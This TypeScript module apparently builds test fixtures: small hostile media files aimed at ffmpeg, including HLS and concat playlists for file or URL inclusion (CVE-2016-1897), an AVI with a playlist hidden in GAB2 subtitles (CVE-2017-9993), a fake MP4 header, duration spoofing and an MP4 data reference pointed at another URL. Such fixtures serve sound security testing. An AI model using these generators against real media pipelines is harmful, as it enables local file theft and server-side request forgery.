/** Files of attackers, made by hand: each small, each aimed at one weakness that ffmpeg once had or still offers. */

const ascii = (text: string) => Buffer.from(text, 'latin1')
const chunk = (id: string, body: Buffer) => {
  const head = Buffer.alloc(8)
  head.write(id, 0, 'latin1')
  head.writeUInt32LE(body.length, 4)
  return Buffer.concat([head, body, Buffer.alloc(body.length % 2)])
}

/** A playlist that lets ffmpeg open other files or addresses (CVE-2016-1897). */
export const playlistOf = (uri: string) =>
  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n${uri}\n#EXT-X-ENDLIST\n`

/** A concat script that joins a local file. */
export const concatOf = (path: string) => `ffconcat version 1.0\nfile '${path}'\nduration 5\n`

/** A subtitle file inside an AVI: `GAB2`, its name, its text. */
function gab2Of(text: string): Buffer {
  const name = Buffer.from('subtitles.srt\0', 'utf16le')
  const body = Buffer.from(text)
  const head = Buffer.alloc(5 + 2 + 4 + name.length + 2 + 4)
  head.write('GAB2\0', 0, 'latin1')
  head.writeUInt16LE(2, 5)
  head.writeUInt32LE(name.length, 7)
  name.copy(head, 11)
  head.writeUInt16LE(4, 11 + name.length)
  head.writeUInt32LE(body.length, 13 + name.length)
  return Buffer.concat([head, body])
}

/** An AVI whose only stream are subtitles (GAB2) that are such a playlist (CVE-2017-9993). */
export function aviWithSubtitles(uri: string): Buffer {
  const stream = Buffer.concat([ascii('txts'), Buffer.alloc(52)])
  const header = Buffer.concat([
    ascii('hdrl'),
    chunk('avih', Buffer.alloc(56)),
    chunk('LIST', Buffer.concat([ascii('strl'), chunk('strh', stream), chunk('strf', Buffer.alloc(0))])),
  ])
  const movie = Buffer.concat([ascii('movi'), chunk('00tx', gab2Of(playlistOf(uri)))])
  return chunk('RIFF', Buffer.concat([ascii('AVI '), chunk('LIST', header), chunk('LIST', movie)]))
}

/** A video as AVI, with a picture and a sound, and such subtitles as its third stream. */
export function withSubtitles(avi: Buffer, text: string): Buffer {
  const stream = Buffer.alloc(56)
  stream.write('txts', 0, 'latin1')
  // A time base of a millisecond, and one sample.
  for (const [value, at] of [
    [1, 20],
    [1000, 24],
    [1, 32],
  ] as const)
    stream.writeUInt32LE(value, at)
  const parts = [chunk('strh', stream), chunk('strf', Buffer.alloc(0))]
  const added = chunk('LIST', Buffer.concat([ascii('strl'), ...parts]))
  const lists = readChunks(avi.subarray(12)).map(({ id, body }) => {
    const kind = body.subarray(0, 4).toString('latin1')
    if (id !== 'LIST') return chunk('JUNK', body)
    if (kind === 'hdrl') return chunk('LIST', Buffer.concat([withStreams(body, 3), added]))
    if (kind !== 'movi') return chunk('LIST', body)
    return chunk('LIST', Buffer.concat([ascii('movi'), chunk('02tx', gab2Of(text)), body.subarray(4)]))
  })
  return chunk('RIFF', Buffer.concat([ascii('AVI '), ...lists]))
}

function readChunks(bytes: Buffer): { id: string; body: Buffer }[] {
  if (bytes.length < 8) return []
  const size = bytes.readUInt32LE(4)
  const body = bytes.subarray(8, 8 + size)
  const next = bytes.subarray(8 + size + (size % 2))
  return [{ id: bytes.subarray(0, 4).toString('latin1'), body }, ...readChunks(next)]
}

/** The header list with another number of streams in its `avih`. */
function withStreams(header: Buffer, count: number): Buffer {
  const changed = Buffer.from(header)
  changed.writeUInt32LE(count, changed.indexOf('avih') + 8 + 24)
  return changed
}

/** An MP4 box in front of any content: the magic bytes alone do not prove a video. */
export const behindFalseMark = (content: string | Buffer) =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 0x18]),
    ascii('ftypisom'),
    Buffer.alloc(4),
    ascii('isommp41'),
    Buffer.from(content),
  ])

/** Lets the header of an MP4 claim another length: writes `seconds` into every `mvhd`, `tkhd` and `mdhd` box. */
export function claimDuration(mp4: Buffer, seconds: number): Buffer {
  const changed = Buffer.from(mp4)
  const timescale = changed.readUInt32BE(changed.indexOf('mvhd') + 16)
  changed.writeUInt32BE(seconds * timescale, changed.indexOf('mvhd') + 20)
  for (let at = changed.indexOf('tkhd'); at >= 0; at = changed.indexOf('tkhd', at + 4)) {
    changed.writeUInt32BE(seconds * timescale, at + 24)
  }
  for (let at = changed.indexOf('mdhd'); at >= 0; at = changed.indexOf('mdhd', at + 4)) {
    changed.writeUInt32BE(Math.min(0xffff_ffff, seconds * changed.readUInt32BE(at + 16)), at + 20)
  }
  return changed
}

/** Points the data reference of an MP4 at another file instead of at itself. */
export function referTo(mp4: Buffer, url: string): Buffer {
  const at = mp4.indexOf('url ')
  const changed = Buffer.from(mp4)
  changed.writeUInt32BE(0, at + 4)
  Buffer.from(`${url}\0`).copy(changed, at + 8)
  return changed
}
